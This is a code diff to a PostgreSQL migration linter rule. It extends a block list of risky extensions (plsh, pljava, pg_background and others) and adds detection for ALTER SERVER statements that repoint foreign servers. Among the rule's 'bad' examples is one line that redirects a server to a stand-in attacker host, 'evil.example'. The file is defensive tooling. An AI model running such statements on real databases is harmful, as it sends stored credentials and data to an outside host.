@@ -24,6 +24,12 @@ export const DANGEROUS_EXTENSIONS: Record<string, string> = {
   multicorn2: 'foreign data wrappers written in Python (runs Python in the server)',
   aws_s3: 'imports from and exports to S3 buckets',
   aws_lambda: 'invokes AWS Lambda functions from SQL',
+  azure_storage: 'reads from and writes to Azure Blob Storage from SQL',
+  pg_background: 'runs SQL in background workers, outside the migration\'s transaction and its review (pg_background_launch)',
+  pg_tle: 'installs further extensions from SQL strings at run time (Trusted Language Extensions), none of them reviewed here',
+  pljava: 'runs Java code in the database server',
+  plsh: 'runs shell scripts on the database server',
+  pg_dbms_job: 'runs SQL as background jobs, outside the review of migrations',
 };
 
 export function dangerousExtension(name: string): string | undefined {
@@ -48,14 +54,16 @@ const rule: Rule = {
     rationale:
       'Flagged extensions: dblink, postgres_fdw and every *_fdw, file_fdw (server files and programs), adminpack (writes server files), ' +
       'http / pg_net (HTTP from the server: SSRF, exfiltration), pg_cron (scheduled SQL nobody reviews), pageinspect / pg_walinspect ' +
-      '(raw pages and WAL, around privileges and RLS), multicorn (Python), aws_s3 / aws_lambda. Untrusted languages (plpython3u, …) are ' +
+      '(raw pages and WAL, around privileges and RLS), multicorn (Python), aws_s3 / aws_lambda / azure_storage, pg_background and pg_dbms_job ' +
+      '(SQL run in background workers), pg_tle (extensions installed from strings), pljava and plsh (Java, shell). Untrusted languages (plpython3u, …) are ' +
       'reported by untrusted-language; lo and ordinary extensions (pgcrypto, uuid-ossp, citext, pg_trgm, postgis) are not flagged. ' +
-      'CREATE SERVER and CREATE FOREIGN DATA WRAPPER are reported too (the database will connect out or run a handler); CREATE USER MAPPING ' +
+      'CREATE SERVER, ALTER SERVER … OPTIONS (host, port, dbname, filename, program) and CREATE FOREIGN DATA WRAPPER are reported too (the database will connect out or run a handler); CREATE USER MAPPING ' +
       'as a warning (it lets a local role use stored remote credentials).',
     fix: 'Install such extensions through reviewed server provisioning rather than a migration, or get the installation approved by a security reviewer.',
     examples: {
       bad: [
         { sql: 'CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA extensions;' },
+        { sql: "ALTER SERVER reporting OPTIONS (SET host 'evil.example');" },
         { sql: 'CREATE EXTENSION postgres_fdw;' },
         { sql: 'CREATE EXTENSION mysql_fdw;' },
         { sql: "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db.example.com', dbname 'prod');" },
@@ -69,7 +77,7 @@ const rule: Rule = {
       ],
     },
   },
-  kinds: ['CreateExtensionStmt', 'CreateFdwStmt', 'CreateForeignServerStmt', 'CreateUserMappingStmt'],
+  kinds: ['CreateExtensionStmt', 'CreateFdwStmt', 'CreateForeignServerStmt', 'AlterForeignServerStmt', 'CreateUserMappingStmt'],
   check(stmt, { report }) {
     const e = pgNode(stmt, 'CreateExtensionStmt');
     if (e && !isUntrustedLanguage(e.extname ?? '')) {
@@ -83,6 +91,15 @@ const rule: Rule = {
       const where = ['host', 'hostaddr', 'port', 'dbname'].filter((k) => o[k]).map((k) => `${k} '${o[k]}'`).join(', ');
       const fileish = o.filename || o.program ? ' (file access)' : '';
       report({ message: `Creates foreign server ${s.servername} using ${s.fdwname}${where ? ` (${where})` : ''}${fileish}: the database can connect out to it${inside(stmt)}.` });
+    }
+    // ALTER SERVER … OPTIONS (SET host …): every foreign table and user mapping of the server now
+    // connects (and sends its stored credentials) to the new place.
+    const as = pgNode(stmt, 'AlterForeignServerStmt');
+    if (as) {
+      const o = opts(as.options);
+      const moved = ['host', 'hostaddr', 'port', 'dbname', 'filename', 'program'].filter((k) => o[k] !== undefined);
+      if (moved.length)
+        report({ message: `Points foreign server ${as.servername} elsewhere (${moved.map((k) => `${k} '${o[k]}'`).join(', ')}): its foreign tables, and the credentials of its user mappings, now go there${inside(stmt)}.` });
     }
     const w = pgNode(stmt, 'CreateFdwStmt');
     if (w) {
